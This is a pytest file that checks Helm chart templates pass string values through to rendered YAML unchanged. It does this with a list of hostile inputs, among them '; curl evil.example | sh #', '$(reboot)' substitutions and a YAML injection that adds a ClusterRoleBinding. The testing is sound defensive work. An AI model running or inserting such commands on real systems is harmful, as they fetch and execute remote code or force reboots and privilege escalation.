"""Text of a leaf stays text: it comes back from the rendered YAML as it was."""

import re

import pytest

from charts.chart_harness import (
    ADAPTERS,
    documents,
    effective,
    load_ci,
    replace,
    scalars,
)

HOSTILE = [
    'a"b',
    "it's",
    "x: y",
    "# c",
    "- x",
    "{{ .Values }}",
    "${HOME} $(reboot) `reboot`",
    "; curl evil.example | sh #",
    "one\ntwo: three",
    "\n---\nkind: ClusterRoleBinding",
    "\ttab",
    " space ",
    "back\\slash \\n",
    "&anchor *alias !!tag",
    "%directive",
    "@at, [list], {map}",
    "<b>&amp;</b>",
    "null",
    "yes",
    "0644",
    "1e3",
    "日本語 \u2028 \u00a0 \x7f \U0001f600",
]

# What chooses a branch of a template, and so is no text.
STRUCTURE = {"type", "protocol", "class", "deploymentMode", "proxyNamespace"}

# What holds a digest of some text.
DIGESTS = {"checksum/modelfile", "envoyService.name", "spec.externalName"}


# Secrets, which a chart refuses.
REFUSED = {"accessKeyId", "secretAccessKey", "token"}

# How many fixed scripts a chart has.
SCRIPTS = {"ollama-inference-load": 3, "model-serving": 1}


@pytest.mark.parametrize("chart", ADAPTERS)
@pytest.mark.parametrize("feature", ["full", "pvc", "digest"])
def test_text_comes_back_as_it_was(chart, feature, helm):
    """Where a marker in a field shows, any text in that field shows unchanged; sums only change."""
    if feature not in load_ci(chart):
        return
    values = effective(chart, load_ci(chart)[feature])
    marked = with_texts(values, lambda index: f"marker{index}marker")
    expected = texts(helm.render(chart, marked, schema=False))
    assert sum("marker" in str(scalar) for scalar in expected.values()) > 20
    for text in HOSTILE:
        hostile = with_texts(values, lambda _, text=text: text)
        found = texts(helm.render(chart, hostile, schema=False))
        assert found == {path: unmarked(scalar, text) for path, scalar in expected.items()}


def texts(files):
    found = dict(scalars(documents(files)))
    return {path: value for path, value in found.items() if not _is_digest(path)}


def _is_digest(path):
    return bool(DIGESTS & {path[-1], ".".join(map(str, path[-2:]))})


def with_texts(values, text):
    for index, (path, value) in enumerate(scalars(values)):
        if isinstance(value, str) and path[-1] not in STRUCTURE | REFUSED:
            values = replace(values, path, text(index))
    return values


def unmarked(scalar, text):
    return re.sub(r"marker\d+marker", lambda _: text, scalar) if isinstance(scalar, str) else scalar


@pytest.mark.parametrize("chart", ADAPTERS)
def test_scripts_do_not_change_with_the_leaf(chart, helm):
    scripts = set()
    for leaf in load_ci(chart).values():
        for _, scalar in scalars(documents(helm.render(chart, leaf))):
            if isinstance(scalar, str) and "ollama" in scalar and "\n" in scalar:
                scripts.add(scalar)
    assert len(scripts) == SCRIPTS.get(chart, 0)
